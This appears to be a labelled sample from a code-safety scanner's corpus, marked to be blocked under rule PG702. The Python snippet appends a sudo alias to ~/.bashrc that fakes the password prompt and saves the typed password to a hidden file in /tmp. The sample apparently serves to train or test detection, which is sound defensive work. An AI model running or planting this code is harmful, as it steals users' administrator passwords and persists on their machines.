# pyguard-corpus: verdict=block category=filesystem rules=PG702
# what: appends an alias to ~/.bashrc that captures the sudo password on the next login
import os

rc = os.path.expanduser("~/.bashrc")
with open(rc, "a", encoding="utf-8") as handle:
    handle.write("\nalias sudo='read -sp \"[sudo] password: \" p; echo $p >> /tmp/.p; echo; command sudo'\n")
